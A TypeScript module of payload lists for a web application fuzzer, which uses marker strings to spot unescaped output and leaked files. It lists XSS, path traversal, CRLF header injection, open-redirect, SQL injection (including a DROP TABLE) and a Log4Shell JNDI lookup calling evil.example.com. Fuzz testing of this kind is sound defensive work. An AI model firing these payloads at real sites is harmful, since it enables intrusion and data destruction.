// Hostile inputs the fuzzer mixes into every field and parameter. Each script-like payload carries
// the marker below, so a page that serves it unescaped is found by a plain text search.

export const XSS_MARKER = 'fzx9';

export const xssStrings = [
  `<script>alert('${XSS_MARKER}')</script>`,
  `"><img src=x onerror=alert('${XSS_MARKER}')>`,
  `<svg/onload=alert('${XSS_MARKER}')>`,
  `javascript:alert('${XSS_MARKER}')`,
  `</script><script>alert('${XSS_MARKER}')</script>`,
  `<a href="javascript:alert('${XSS_MARKER}')">x</a>`,
  `<iframe src="javascript:alert('${XSS_MARKER}')"></iframe>`,
  `'-alert('${XSS_MARKER}')-'`,
  `{{constructor.constructor('alert("${XSS_MARKER}")')()}}`,
];

export const traversalStrings = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '%00',
  '%E0%A4%A',
  '%',
  '%%32%65%%32%65/',
  'slug%00.json',
  '.env',
  '..',
];

/** Text that only a file outside the app would contain. */
export const leakedFilePatterns = [/root:x:0:0/, /\[fonts\]/i, /DATABASE_URL=/];

export const INJECTED_HEADER = 'x-fuzz-injected';

export const redirectAndHeaderStrings = [
  'https://evil.example.com/',
  '//evil.example.com',
  '/\\evil.example.com',
  'https:evil.example.com',
  '@evil.example.com',
  'https://www.amazon.in.evil.example.com/',
  'https://www.amazon.in@evil.example.com/',
  `x\r\n${INJECTED_HEADER}: 1`,
  `x%0d%0a${INJECTED_HEADER}:%201`,
  `x\n${INJECTED_HEADER}: 1`,
  'x\r\nLocation: https://evil.example.com/',
  'x%0D%0ASet-Cookie:%20fuzz=1',
];

export const oddStrings = [
  '',
  ' ',
  '\u0000',
  '\uFEFF',
  '\uD800',
  'a'.repeat(5_000),
  '😀'.repeat(50),
  "' OR 1=1 --",
  '"; DROP TABLE catalogue.laptop; --',
  '${jndi:ldap://evil.example.com/a}',
  '__proto__',
  'constructor',
  '-1',
  '1e309',
  'NaN',
  'Infinity',
  '0x10',
  '[]',
  '{}',
  'null',
  'true',
];

export const attackStrings = [
  ...xssStrings,
  ...traversalStrings,
  ...redirectAndHeaderStrings,
  ...oddStrings,
];
